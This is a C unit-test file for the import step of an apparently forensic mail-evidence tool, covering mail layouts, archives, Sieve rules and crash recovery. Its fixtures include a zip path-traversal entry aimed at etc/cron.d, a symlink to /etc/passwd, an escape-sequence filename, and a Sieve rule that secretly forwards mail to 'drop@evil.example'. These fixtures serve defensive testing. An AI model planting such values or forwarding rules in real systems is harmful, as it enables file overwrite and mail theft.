/* test_import.c - files become evidence, messages and rules, with a report of each; with the real
 * jailed workers and the real program. */
#include "../../cli/import.h"
#include "check.h"

#include "forge.h"
#include "sample_case.h"
#include "shared.h"

#include "base/job.h"
#include "parse/inside.h"

#include <dirent.h>
#include <malloc.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define LINE   "From a@b.example Mon Jan  1 10:00:00 2024\n"
#define HEADER "From: a@b.example\nTo: owner@acme.example\nSubject: "

struct box {
    struct sample sample;
    char files[TEMP_PATH + 16];
    struct import_order order;
};

static int set_up(void **state)
{
    struct box *box = calloc(1, sizeof(*box));

    sample_make(&box->sample);
    snprintf(box->files, sizeof(box->files), "%s/files", box->sample.folder);
    assert_int_equal(mkdir(box->files, 0700), 0);
    *state = box;
    return 0;
}

static void forget(struct box *box)
{
    import_plan_dispose(&box->order.plan);
    buf_dispose(&box->order.text);
    buf_dispose(&box->order.items);
    box->order = (struct import_order){0};
}

static int tear_down(void **state)
{
    struct box *box = *state;

    forget(box);
    sample_remove(&box->sample);
    free(box);
    return 0;
}

/* Makes the folders before it too. */
static void put_bytes(struct box *box, const char *name, struct str bytes)
{
    char path[TEMP_PATH + 300];
    struct error err = {0};

    snprintf(path, sizeof(path), "%s/%s", box->files, name);
    for (char *at = path + strlen(box->files) + 1; *at; at++)
        if (*at == '/') {
            *at = '\0';
            mkdir(path, 0700);
            *at = '/';
        }
    assert_ok(temp_write(path, bytes, &err), &err);
}

static void put(struct box *box, const char *name, const char *text)
{
    put_bytes(box, name, str_of(text));
}

static void import(struct box *box)
{
    struct error err = {0};

    forget(box);
    box->order = (struct import_order){
        .cf = box->sample.cf,
        .scan = {.role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR},
        .target = box->files};
    buf_init(&box->order.text, 16 << 20);
    buf_init(&box->order.items, 16 << 20);
    assert_ok(import_plan_add(&box->order.plan, box->files, &err), &err);
    assert_ok(job_run(import_job, &box->order, &err), &err);
}

static void assert_says(const struct box *box, const char *words)
{
    if (!strstr(buf_c(&box->order.text), words))
        fail_msg("no \"%s\" in:\n%s", words, buf_c(&box->order.text));
}

static void assert_folder(struct box *box, const char *name, enum folder_use use, uint64_t have)
{
    struct arena arena = {0};
    struct error err = {0};
    struct folder *folders;
    size_t count, i;

    assert_ok(folder_list(box->sample.cf, &arena, 0, &folders, &count, &err), &err);
    for (i = 0; i < count && strcmp(folders[i].name, name) != 0; i++)
        ;
    if (i == count)
        fail_msg("there is no folder \"%s\"", name);
    assert_int_equal(folders[i].use, use);
    assert_int_equal(folders[i].have, have);
    arena_dispose(&arena);
}

static void assert_intact(struct box *box)
{
    struct error err = {0};
    struct buf text;
    uint64_t wrong;

    buf_init(&text, 1 << 20);
    assert_ok(sample_verify(box->sample.cf, &wrong, &text, &err), &err);
    if (wrong > 0)
        fail_msg("%s", buf_c(&text));
    buf_dispose(&text);
}

static void assert_total(struct box *box, uint64_t want)
{
    struct message_counts counts;
    struct error err = {0};

    assert_ok(message_count(box->sample.cf, &counts, &err), &err);
    assert_int_equal(counts.fetched, want);
    assert_int_equal(counts.parsed + counts.limited, want);
}

/* --- layouts --- */

static void mail_in_every_layout_becomes_folders(void **state)
{
    struct box *box = *state;

    put(box, "export/one.eml", HEADER "1\n\nx\n");
    put(box, "export/two", HEADER "2\r\n\r\nx\r\n");
    put(box,
        "G\xe1\xbb\xad"
        "i.mbox",
        LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n");
    put(box, "Sent.sbd/2024", "From \n" HEADER "5\n\nx\n");
    put(box, "Apple.mbox/mbox", LINE HEADER "6\n\nx\n");
    put(box, "Maildir/cur/1704103200.M1.host:2,FS", HEADER "7\n\nx\n");
    put(box, "Maildir/new/1704103201.M2.host", "no header, and yet a mail\n");
    put(box, "Maildir/tmp/.x", "");
    put(box, "Maildir/dovecot.index", "\1\2\3");
    put(box, "Maildir/.Sent/cur/1704103202.M3.host:2,S", HEADER "8\n\nx\n");
    put(box, "Maildir/.Sent/new/.x", "");
    put(box, "Maildir/.R&AOk-union.Deep/cur/1704103203.M4", HEADER "9\n\nx\n");
    put(box, "Maildir/.R&AOk-union.Deep/new/.x", "");
    import(box);
    assert_folder(box, "export", FOLDER_PLAIN, 2);
    assert_folder(box,
                  "G\xe1\xbb\xad"
                  "i",
                  FOLDER_PLAIN, 2);
    assert_folder(box, "Sent/2024", FOLDER_PLAIN, 1);
    assert_folder(box, "Apple", FOLDER_PLAIN, 1);
    assert_folder(box, "Maildir", FOLDER_PLAIN, 2);
    assert_folder(box, "Maildir/Sent", FOLDER_SENT, 1);
    assert_folder(box, "Maildir/R\xc3\xa9union/Deep", FOLDER_PLAIN, 1);
    assert_int_equal(box->order.totals.messages, 10);
    assert_int_equal(box->order.totals.not_taken, 0);
    assert_total(box, 10);
    assert_intact(box);
}

static void a_mail_is_kept_as_it_stood_and_where(void **state)
{
    static const char mail[] = HEADER "x\n\n>From quoted\n\nFrom here on\n";
    struct hash hash = hash_of(str_of(mail));
    struct box *box = *state;
    struct import_origin origin;
    struct arena arena = {0};
    struct error err = {0};
    struct message *rows;
    size_t count;

    put(box, "a.mbox", LINE "A: 1\n\n\n" LINE HEADER "x\n\n>From quoted\n\nFrom here on\n");
    import(box);
    assert_true(evidence_has(box->sample.cf, &hash));
    assert_ok(message_list(box->sample.cf, &arena,
                           &(struct message_query){.direction = -1, .oldest_first = true}, &rows,
                           &count, &err),
              &err);
    assert_int_equal(count, 2);
    assert_int_equal(rows[1].received, 1704103200);
    assert_ok(import_origin_get(box->sample.cf, &arena, rows[1].id, &origin, &err), &err);
    assert_int_equal(origin.offset, 2 * strlen(LINE) + strlen("A: 1\n\n\n"));
    assert_non_null(strstr(origin.path, "/a.mbox"));
    assert_says(box, "1 mail holds lines quoted");
    assert_says(box, "UTC is assumed");
    arena_dispose(&arena);
}

/* --- what is not taken --- */

static void nothing_is_passed_over_in_silence(void **state)
{
    struct box *box = *state;
    char path[TEMP_PATH + 64];

    put_bytes(box, "pictures/a.png", (struct str){"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16});
    put(box, "pictures/b.eml", "");
    put_bytes(box, "c.pst", (struct str){"!BDN\0\0\0\0", 8});
    put_bytes(box, "d.mbox", (struct str){"PK\3\4\0\0\0\0", 8});
    put(box, "e.mbox", "junk\n\n" LINE HEADER "1\n\nx\n\n" LINE LINE HEADER "2\n\ncut of");
    put(box, "\x1b[31mf", "what is this\n");
    snprintf(path, sizeof(path), "%s/link", box->files);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    snprintf(path, sizeof(path), "%s/pipe", box->files);
    assert_int_equal(mkfifo(path, 0600), 0);
    import(box);
    assert_says(box, "a.png: image/png");
    assert_says(box, "b.eml: the file is empty");
    assert_says(box, "c.pst");
    assert_says(box, "d.mbox");
    assert_says(box, "it is damaged, or of a kind that");
    assert_says(box, "link: a symbolic link");
    assert_says(box, "pipe: a pipe");
    assert_says(box, "<U+001B>[31mf: ");
    assert_null(strchr(buf_c(&box->order.text), '\x1b'));
    assert_says(box, "byte 0: these bytes stand before the first");
    assert_says(box, "nothing stands between two");
    assert_says(box, "PERHAPS CUT OFF: its last line has no end");
    assert_says(box, "usable with limits");
    assert_int_equal(box->order.totals.not_taken, inside_can("pst") ? 5 : 6);
    assert_int_equal(box->order.totals.rejected, inside_can("pst") ? 4 : 3);
    assert_int_equal(box->order.totals.messages, 2);
    assert_intact(box);
}

/* --- files in files --- */

#define S(text)                                                                                    \
    {                                                                                              \
        (text), sizeof(text) - 1                                                                   \
    }

static const struct forge_file in_a_zip[] = {
    {"Inbox/1.eml", S(HEADER "1\n\nx\n")},
    {"Inbox/2.eml", S(HEADER "2\n\nx\n")},
    {"../../etc/cron.d/3.eml", S(HEADER "3\n\nx\n")},
    {"Sent.sbd/2024", S(LINE HEADER "4\n\nx\n\n" LINE HEADER "5\n\ny\n")},
    {"Maildir/.Sent.Old/cur/1704103202.M3.host:2,S", S(HEADER "6\n\nx\n")},
    {"rules.sieve", S("require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n")},
    {"__MACOSX/Inbox/._1.eml", S("\1\2")},
    {"notes.txt", S("what is this\n")},
    {"inner.zip", S("PK\3\4")},
};

static void put_zip(struct box *box, const char *name, size_t count, bool encrypted)
{
    struct buf zip;

    buf_init(&zip, 1 << 20);
    forge_zip(&zip, in_a_zip, count, encrypted);
    put_bytes(box, name, buf_as_str(&zip));
    buf_dispose(&zip);
}

static void mail_in_an_archive_is_imported_like_files(void **state)
{
    struct box *box = *state;

    put_zip(box, "client.zip", ARRAY_LEN(in_a_zip), false);
    import(box);
    assert_folder(box, "Inbox", FOLDER_INBOX, 2);
    assert_folder(box, "etc/cron.d", FOLDER_PLAIN, 1);
    assert_folder(box, "Sent/2024", FOLDER_PLAIN, 2);
    assert_folder(box, "Maildir/Sent/Old", FOLDER_PLAIN, 1);
    assert_total(box, 6);
    assert_int_equal(box->order.totals.rules, 1);
    assert_says(box, "notes.txt");
    assert_says(box, "inner.zip: ZIP archive in another");
    assert_says(box, "8 read, 8 taken in");
    assert_intact(box);
    import(box);
    assert_int_equal(box->order.totals.messages, 0);
    assert_total(box, 6);
}

static void packed_streams_are_imported(void **state)
{
    struct box *box = *state;
    char source[TEMP_PATH + 32], target[TEMP_PATH + 64];
    struct error err = {0};
    struct buf packed;

    put(box, "Archive/1.eml", HEADER "1\n\nx\n");
    put(box, "Archive/2.eml", HEADER "2\n\nx\n");
    snprintf(source, sizeof(source), "%s/Archive", box->files);
    snprintf(target, sizeof(target), "%s/client.tar.gz", box->files);
    assert_ok(
        temp_run((const char *[]){"tar", "-czf", target, "-C", box->files, "Archive", NULL}, &err),
        &err);
    assert_ok(temp_run((const char *[]){"rm", "-r", source, NULL}, &err), &err);
    buf_init(&packed, 1 << 20);
    forge_gzip(&packed, str_of(LINE HEADER "3\n\nx\n\n" LINE HEADER "4\n\ny\n"));
    put_bytes(box, "old.mbox.gz", buf_as_str(&packed));
    buf_dispose(&packed);
    import(box);
    assert_folder(box, "Archive", FOLDER_ARCHIVE, 2);
    assert_folder(box, "old", FOLDER_PLAIN, 2);
    assert_total(box, 4);
    assert_int_equal(box->order.totals.rejected, 0);
}

static void what_cannot_be_unpacked_is_told(void **state)
{
    struct box *box = *state;
    struct buf broken;

    put_zip(box, "locked.zip", 2, true);
    buf_init(&broken, 1 << 20);
    forge_zip(&broken, in_a_zip, 5, false);
    broken.len -= 100; /* its list of members */
    broken.at[broken.len / 2] ^= 0x55;
    put_bytes(box, "damaged.zip", buf_as_str(&broken));
    buf_dispose(&broken);
    import(box);
    assert_says(box, "it is encrypted");
    assert_says(box, "Inbox/2.eml: it is encrypted");
    assert_says(box, "Sent.sbd/2024: it is damaged");
    assert_says(box, "5 read, 4 taken in, 1 NOT TAKEN");
    assert_total(box, 4);
    assert_intact(box);
}

static void an_export_of_rules_becomes_rules(void **state)
{
    struct box *box = *state;
    struct arena arena = {0};
    struct error err = {0};
    struct rule_row *rules;
    size_t count;

    put(box, "a.txt", "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n");
    put(box, "b.sieve", "require [\"fileinto\"];\nfileinto \"RSS\";\nif nonsense {\n");
    import(box);
    put(box, "c.sieve", "require [\"fileinto\"];\nfileinto \"C\";\n");
    import(box); /* what another run read stays */
    assert_ok(rule_list(box->sample.cf, &arena, &rules, &count, &err), &err);
    assert_int_equal(count, 5); /* with one that stands for what was not read of b */
    for (size_t i = 0; i < count; i++)
        assert_true(!rules[i].gone && rules[i].from_file);
    assert_says(box, "it does not parse");
    assert_says(box, "the same file was imported before");
    assert_intact(box);
    arena_dispose(&arena);
}

/* --- again, and after a kill --- */

static void a_second_import_takes_only_what_is_new(void **state)
{
    struct box *box = *state;

    put(box, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "1\n\nx\n");
    import(box);
    assert_int_equal(box->order.totals.messages, 2);
    assert_int_equal(box->order.totals.duplicates, 1);
    put(box, "a.mbox", LINE HEADER "1\n\nx\n\n" LINE HEADER "2\n\nx\n\n" LINE HEADER "3\n\nx\n");
    import(box);
    assert_int_equal(box->order.totals.messages, 1);
    assert_int_equal(box->order.totals.known, 2);
    assert_int_equal(box->order.totals.duplicates, 0);
    assert_total(box, 3);
    assert_intact(box);
}

static bool has_segment(const char *path)
{
    DIR *folder = opendir(path);
    struct dirent *entry;
    bool found = false;

    while (folder && (entry = readdir(folder)))
        found |= strstr(entry->d_name, ".seg") != NULL;
    if (folder)
        closedir(folder);
    return found;
}

static void a_killed_import_goes_on_where_it_stopped(void **state)
{
    enum { MAILS = 4000 };
    struct box *box = *state;
    char evidence[TEMP_PATH + 64];
    struct buf mbox;
    pid_t child;

    buf_init(&mbox, 1 << 20);
    for (int i = 0; i < MAILS; i++)
        buf_printf(&mbox, "%s%s%d\n\nbody %d\n\n", LINE, HEADER, i, i);
    put_bytes(box, "many.mbox", buf_as_str(&mbox));
    buf_dispose(&mbox);
    sample_close(&box->sample);
    child = fork();
    assert_true(child >= 0);
    if (child == 0) {
        execl(PROGRAM, PROGRAM, "import", box->sample.path, box->files, "--quiet", "--data",
              DATA_DIR, (char *)NULL);
        _exit(127);
    }
    snprintf(evidence, sizeof(evidence), "%s/evidence", box->sample.path);
    while (!has_segment(evidence) && waitpid(child, NULL, WNOHANG) == 0)
        ; /* wherever it is then */
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    sample_open(&box->sample, CASE_WRITE);
    import(box);
    assert_int_equal(box->order.totals.messages + box->order.totals.known, MAILS);
    assert_total(box, MAILS);
    assert_intact(box);
}

static void an_interrupt_ends_it_in_an_orderly_way(void **state)
{
    struct box *box = *state;
    char evidence[TEMP_PATH + 64];
    struct buf mbox;
    pid_t child;
    int status;

    buf_init(&mbox, 64 << 20);
    for (int i = 0; i < 40000; i++)
        buf_printf(&mbox, "%s%s%d\n\nbody %d\n\n", LINE, HEADER, i, i);
    put_bytes(box, "many.mbox", buf_as_str(&mbox));
    buf_dispose(&mbox);
    sample_close(&box->sample);
    child = fork();
    assert_true(child >= 0);
    if (child == 0) {
        execl(PROGRAM, PROGRAM, "import", box->sample.path, box->files, "--quiet", "--no-scan",
              "--data", DATA_DIR, (char *)NULL);
        _exit(127);
    }
    snprintf(evidence, sizeof(evidence), "%s/evidence", box->sample.path);
    while (!has_segment(evidence) && waitpid(child, NULL, WNOHANG) == 0)
        ;
    kill(child, SIGINT); /* its job runs by then: a segment is there */
    assert_int_equal(waitpid(child, &status, 0), child);
    assert_true(WIFEXITED(status));
    assert_true(WEXITSTATUS(status) == 1 || WEXITSTATUS(status) == 20); /* 20: it was done */
    sample_open(&box->sample, CASE_WRITE);
    assert_intact(box);
}

/* --- what was not examined --- */

static void assert_rules_hint(struct box *box, const char *words)
{
    struct arena arena = {0};
    struct error err = {0};
    struct coverage *rows;
    size_t count, i;

    assert_ok(coverage_list(box->sample.cf, &arena, &rows, &count, &err), &err);
    for (i = 0; i < count && strcmp(rows[i].check, "rules-sieve") != 0; i++)
        ;
    assert_true(i < count);
    assert_int_equal(rows[i].state, COVERAGE_NOT_CHECKED);
    assert_non_null(strstr(rows[i].detail, "do not show the rules on the server"));
    if (!strstr(rows[i].hint, words))
        fail_msg("no \"%s\" in \"%s\"", words, rows[i].hint);
    arena_dispose(&arena);
}

static void mail_alone_says_how_to_get_the_rules(void **state)
{
    struct box *box = *state;

    put(box, "a.eml", HEADER "1\n\nx\n");
    import(box);
    assert_rules_hint(box, "import an export of the rules");
    put(box, "b.eml",
        "Received: from x.example by mx.google.com with ESMTPS; Mon, 1 Jan 2024 10:00:00 +0000\n" HEADER
        "2\n\nx\n");
    import(box);
    assert_rules_hint(box, "mailFilters.xml");
}

static void count_mail(void *arg, const char *path, struct str bytes)
{
    uint64_t *count = arg;

    *count += str_ends_nocase(str_of(path), ".eml") && bytes.len > 0;
}

/* Not one is lost, however broken: taken in, there twice, or named. */
static void broken_mail_is_evidence_too(void **state)
{
    struct box *box = *state;
    const struct import_totals *totals = &box->order.totals;
    char place[sizeof(box->files)];
    uint64_t mails = 0;

    memcpy(place, box->files, sizeof(place));
    if (!shared_unpack("torture", box->files))
        skip();
    shared_each(box->files, count_mail, &mails);
    import(box);
    assert_true(mails > 0);
    assert_true(totals->messages + totals->duplicates >= mails);
    assert_total(box, totals->messages);
    assert_intact(box);
    temp_remove(box->files);
    memcpy(box->files, place, sizeof(place));
}

/* --- many files --- */

enum { PLANNED = 3000, HELD_MOST = 48 * 1024 };

static bool count_named(void *arg, const struct import_item *item, struct error *err)
{
    static char last[300];

    (void)err;
    if (*(size_t *)arg > 0)
        assert_true(strcmp(last, item->path) < 0);
    snprintf(last, sizeof(last), "%s", item->path);
    ++*(size_t *)arg;
    return true;
}

/* Under a sanitizer mallinfo2() tells nothing, and this proves nothing. */
static void a_plan_of_many_files_holds_none_of_them(void **state)
{
    struct box *box = *state;
    struct error err = {0};
    size_t told = 0, before;

    for (int i = 0; i < PLANNED; i++) {
        char name[64];

        snprintf(name, sizeof(name), "old/mail/%08d.of.those.that.are.planned.eml", i);
        put(box, name, "Subject: x\n\nx\n");
    }
    before = mallinfo2().uordblks;
    assert_ok(import_plan_add(&box->order.plan, box->files, &err), &err);
    assert_in_range(mallinfo2().uordblks - before, 0, HELD_MOST);
    assert_int_equal(box->order.plan.count, PLANNED);
    assert_ok(import_plan_each(&box->order.plan, count_named, &told, &err), &err);
    assert_int_equal(told, PLANNED);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_plan_of_many_files_holds_none_of_them, set_up, tear_down),
        cmocka_unit_test_setup_teardown(mail_in_every_layout_becomes_folders, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_mail_is_kept_as_it_stood_and_where, set_up, tear_down),
        cmocka_unit_test_setup_teardown(nothing_is_passed_over_in_silence, set_up, tear_down),
        cmocka_unit_test_setup_teardown(mail_in_an_archive_is_imported_like_files, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(packed_streams_are_imported, set_up, tear_down),
        cmocka_unit_test_setup_teardown(what_cannot_be_unpacked_is_told, set_up, tear_down),
        cmocka_unit_test_setup_teardown(an_export_of_rules_becomes_rules, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_second_import_takes_only_what_is_new, set_up, tear_down),
        cmocka_unit_test_setup_teardown(a_killed_import_goes_on_where_it_stopped, set_up,
                                        tear_down),
        cmocka_unit_test_setup_teardown(an_interrupt_ends_it_in_an_orderly_way, set_up, tear_down),
        cmocka_unit_test_setup_teardown(broken_mail_is_evidence_too, set_up, tear_down),
        cmocka_unit_test_setup_teardown(mail_alone_says_how_to_get_the_rules, set_up, tear_down),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
